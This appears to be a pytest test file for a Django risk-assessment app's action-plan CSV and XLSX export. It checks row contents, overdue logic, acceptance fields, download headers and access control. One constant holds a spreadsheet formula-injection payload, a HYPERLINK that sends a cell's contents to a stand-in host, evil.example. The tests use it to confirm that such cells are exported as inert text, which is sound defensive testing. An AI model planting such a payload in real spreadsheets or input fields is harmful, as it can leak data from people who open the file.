"""The action plan as CSV and XLSX: one row per finding and action, cells a spreadsheet
cannot run."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from riskassess.actions import exports, services
from riskassess.actions.models import Action, Finding
from riskassess.actions.report import plan_parts
from riskassess.assessments.reportdata import finding_keys
from riskassess.reports.build import build_report
from tests.actions.conftest import client_for, findings_of

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def plan(assessment, user, keys, **extra):
    return services.create_action(
        deployment_id=assessment.deployment_id,
        user=user,
        title=extra.pop("title", "Red-team the model"),
        owner=extra.pop("owner", user),
        due_on=extra.pop("due_on", timezone.localdate() + timedelta(days=30)),
        item_keys=keys,
        findings=findings_of(assessment),
        **extra,
    )


def live(assessment) -> tuple[dict, dict]:
    report = build_report(assessment)
    return report, plan_parts(assessment.deployment_id, finding_keys(report["items"]))


def csv_rows(assessment, today=None) -> list[dict]:
    report, parts = live(assessment)
    text = exports.to_csv(report, parts, today)
    assert text.startswith(exports.BOM)
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_the_csv_has_a_row_per_finding_and_action(answered, alice, bob):
    keys = findings_of(answered)
    plan(answered, alice, keys[:2], title="Red-team the model", owner=bob)
    plan(answered, alice, keys[:1], title="Add a usage policy")
    rows = csv_rows(answered)
    assert len(rows) == len(keys) + 1
    first = [r for r in rows if r["Item"] == keys[0]]
    assert sorted(r["Action"] for r in first) == ["Add a usage policy", "Red-team the model"]
    assert {r["Treatment"] for r in first} == {"Mitigate"}
    (second,) = [r for r in rows if r["Item"] == keys[1]]
    assert (second["Owner"], second["Status"], second["Overdue"]) == ("bob", "Open", "no")
    (untreated,) = [r for r in rows if r["Item"] == keys[2]]
    assert untreated["Treatment"] == "Undecided"
    assert untreated["Action"] == untreated["Owner"] == untreated["Due on"] == ""


def test_the_csv_names_the_assessment_and_the_item_on_every_row(answered):
    rows = csv_rows(answered)
    item = next(i for i in build_report(answered)["items"] if i["key"] == rows[0]["Item"])
    assert rows[0]["Assessment"] == "Support bot"
    assert rows[0]["Assessment id"] == str(answered.pk)
    assert (rows[0]["Question"], rows[0]["Answer"]) == (item["question"], "No")
    assert rows[0]["Exposure"] == str(item["exposure"])
    assert rows[0]["Critical"] in ("yes", "no")
    for column in (
        "Category", "Acceptance status", "Justification", "Accepted by", "Accepted until",
        "Lapsed on", "Due on", "Done at",
    ):  # fmt: skip
        assert column in rows[0]


def test_a_formula_in_a_title_is_written_as_text(answered, alice):
    plan(answered, alice, findings_of(answered)[:1], title=HOSTILE, description="-1+1")
    (row,) = [r for r in csv_rows(answered) if r["Action"]]
    assert row["Action"] == "'" + HOSTILE
    assert row["Action description"] == "'-1+1"


def test_overdue_is_worked_out_on_the_day_the_file_is_made(answered, alice):
    due = timezone.localdate() + timedelta(days=3)
    action = plan(answered, alice, findings_of(answered)[:1], due_on=due)
    (row,) = [r for r in csv_rows(answered, today=due + timedelta(days=1)) if r["Action"]]
    assert (row["Due on"], row["Overdue"]) == (due.isoformat(), "yes")
    services.move(action=action, user=alice, role="owner", status="done")
    (row,) = [r for r in csv_rows(answered, today=due + timedelta(days=1)) if r["Action"]]
    assert (row["Status"], row["Overdue"]) == ("Done", "no")
    assert row["Done at"].endswith("UTC")


def test_an_accepted_risk_says_who_accepted_it_and_until_when(answered, bob, rita):
    key = findings_of(answered)[0]
    until = timezone.localdate() + timedelta(days=60)
    services.propose_acceptance(
        deployment_id=answered.deployment_id, item_key=key, justification="Internal use only",
        expires_on=until, user=bob, findings=findings_of(answered),
    )  # fmt: skip
    finding = Finding.objects.get(deployment_id=answered.deployment_id, item_key=key)
    services.decide_acceptance(finding=finding, user=rita, accept=True)
    (row,) = [r for r in csv_rows(answered) if r["Item"] == key]
    assert (row["Treatment"], row["Acceptance status"]) == ("Accept", "accepted")
    assert (row["Justification"], row["Proposed by"]) == ("Internal use only", "bob")
    assert (row["Accepted by"], row["Accepted role"]) == ("rita", "reviewer")
    assert row["Accepted until"] == until.isoformat()


def test_an_open_action_on_an_item_no_longer_a_finding_is_still_listed(answered, alice):
    from riskassess.assessments import services as answers

    key = findings_of(answered)[0]
    plan(answered, alice, [key], title="Gate access")
    answer = answered.answers.get(item__key=key)
    answers.save_answer(
        assessment=answered, item_key=key, option_key="yes", comment="",
        expected_version=answer.version, user=alice,
    )  # fmt: skip
    rows = [r for r in csv_rows(answered) if r["Item"] == key]
    assert [(r["Treatment"], r["Action"]) for r in rows] == [("not a finding", "Gate access")]


def test_the_xlsx_has_the_same_rows_with_dates_as_dates(answered, alice):
    due = timezone.localdate() + timedelta(days=10)
    plan(answered, alice, findings_of(answered)[:1], title=HOSTILE, due_on=due)
    report, parts = live(answered)
    body = exports.to_xlsx(report, parts)
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Action plan"]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == exports.HEADER
    assert len(values) == 1 + len(exports.rows(report, parts))
    row = dict(zip(exports.HEADER, values[1], strict=True))
    # Written as a string: the cell holds the text, no formula runs.
    assert row["Action"] == HOSTILE
    assert sheet.cell(2, exports.HEADER.index("Action") + 1).data_type == "s"
    assert row["Due on"].date() == due


def test_the_xlsx_is_a_workbook_with_one_sheet(answered):
    report, parts = live(answered)
    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx(report, parts))) as book:
        assert "xl/worksheets/sheet1.xml" in book.namelist()
        assert "xl/worksheets/sheet2.xml" not in book.namelist()
        assert "Action plan" in book.read("xl/workbook.xml").decode()


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_a_viewer_downloads_the_plan_as_an_attachment(answered, vera, fmt):
    response = client_for(vera).get(reverse("action_plan_export", args=[answered.pk, fmt]))
    assert response.status_code == 200
    today = build_report(answered)["generated_at"][:10]
    expected = f'attachment; filename="support-bot-action-plan-{today}.{fmt}"'
    assert response["Content-Disposition"] == expected
    assert "no-store" in response["Cache-Control"]


def test_another_team_gets_not_found(answered, charlie):
    response = client_for(charlie).get(reverse("action_plan_export", args=[answered.pk, "csv"]))
    assert response.status_code == 404


def test_an_unknown_format_is_not_found(answered, alice):
    response = client_for(alice).get(reverse("action_plan_export", args=[answered.pk, "pdf"]))
    assert response.status_code == 404


def test_the_download_is_the_live_plan(answered, alice):
    plan(answered, alice, findings_of(answered)[:1], title="Only one")
    response = client_for(alice).get(reverse("action_plan_export", args=[answered.pk, "csv"]))
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["Action"] for r in rows if r["Action"]] == ["Only one"]
    assert Action.objects.count() == 1
